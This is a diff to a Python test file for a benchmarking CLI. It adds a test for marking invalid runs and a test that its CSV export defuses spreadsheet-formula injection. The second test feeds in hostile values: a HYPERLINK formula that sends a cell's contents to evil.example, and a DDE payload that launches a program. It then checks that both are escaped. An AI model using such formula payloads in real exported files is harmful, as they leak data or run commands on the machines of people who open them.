@@ -72,6 +72,24 @@ def test_history_of_a_figure(cb, filled):
     assert same.stdout == r.stdout
 
 
+def test_history_of_a_figure_marks_an_invalid_run(cb, filled, tmp_path):
+    """As plain `history` marks an invalid run, so does a figure's: a marker column on its row."""
+    r = make_result("44444444-run")
+    r.branch, r.commit_id, r.commit_time = "main", "c4c4c4c4", T0 + 4 * HOUR
+    r.valid, r.invalid_reasons = False, [{"rule": "cpu_load", "detail": "other processes used 1.9 of 2 cores",
+                                          "scenario": DECODE, "phase": "decode"}]
+    (tmp_path / "invalid.json").write_text(r.to_json())
+    assert cli_in_process(["ingest", tmp_path / "invalid.json"], cb.env).returncode == 0
+    out = cli_in_process(["history", "--scenario", DECODE, "--metric", "time_to_next_token_mean_secs",
+                          "--branch", "main"], cb.env).stdout.splitlines()
+    assert out[1].split()[-1] == "VALID"
+    rows = {line.split()[0]: line.split() for line in out[2:6]}
+    assert rows["c4c4c4c4"][-2:] == ["44444444", "INVALID"] and rows["c3c3c3c3"][-1] == "33333333"
+    assert out[-1] == "INVALID runs are left out of compare and detect (`commitbench show RUN` says why)"
+    plain = cli_in_process(["history", "--branch", "main"], cb.env).stdout
+    assert "succeeded INVALID" in plain and plain.splitlines()[-1] == out[-1]
+
+
 def test_series_list_and_ambiguous_names(cb, filled, tmp_path):
     r = cli_in_process(["history", "--series-list"], cb.env)
     assert r.returncode == 0 and len(r.stdout.splitlines()) == 4  # header + 3 series
@@ -133,6 +151,26 @@ def test_export_a_run(cb, filled, tmp_path):
     assert [float(v) for v in row["samples"].split()] == pytest.approx([0.010, 0.011, 0.009])
     assert float(row["median"]) == pytest.approx(0.010)
     assert cli_in_process(["export", "1111", "--format", "csv", "-o", tmp_path], cb.env).returncode == 2  # a directory
+
+
+def test_csv_export_writes_no_formula(cb, filled, tmp_path):
+    """OWASP's CSV injection rule: a text cell starting with = + - @ tab or CR gets a leading
+    quote, so a spreadsheet shows a branch named =HYPERLINK(...) instead of running it; our own
+    numbers (the samples) stay numbers."""
+    r = make_result("55555555-run")
+    r.branch, r.commit_id, r.commit_time = '=HYPERLINK("http://evil.example/?"&A1,"click")', "c5c5c5c5", T0 + 5 * HOUR
+    r.scenarios[0].name = "+cmd|' /C calc'!A0"
+    r.scenarios[0].metrics[0].samples = [-0.5]  # a negative number is not a formula
+    (tmp_path / "hostile.json").write_text(r.to_json())
+    assert cli_in_process(["ingest", tmp_path / "hostile.json"], cb.env).returncode == 0
+    out = cli_in_process(["export", "5555", "--format", "csv"], cb.env).stdout
+    rows = list(csv.DictReader(io.StringIO(out)))
+    assert {x["branch"] for x in rows} == {"'" + r.branch}
+    assert rows[0]["scenario"] == "'+cmd|' /C calc'!A0" and rows[0]["samples"] == "-0.5"
+    from benchmark.cli.export import cell
+
+    assert [cell(v) for v in ("=1+1", "+1", "-x", "@SUM(A1)", "\tx", "\rx", "main", "-1.5 2.0", 3)] == \
+        ["'=1+1", "'+1", "'-x", "'@SUM(A1)", "'\tx", "'\rx", "main", "-1.5 2.0", 3]
 
 
 def test_export_a_series(cb, filled):
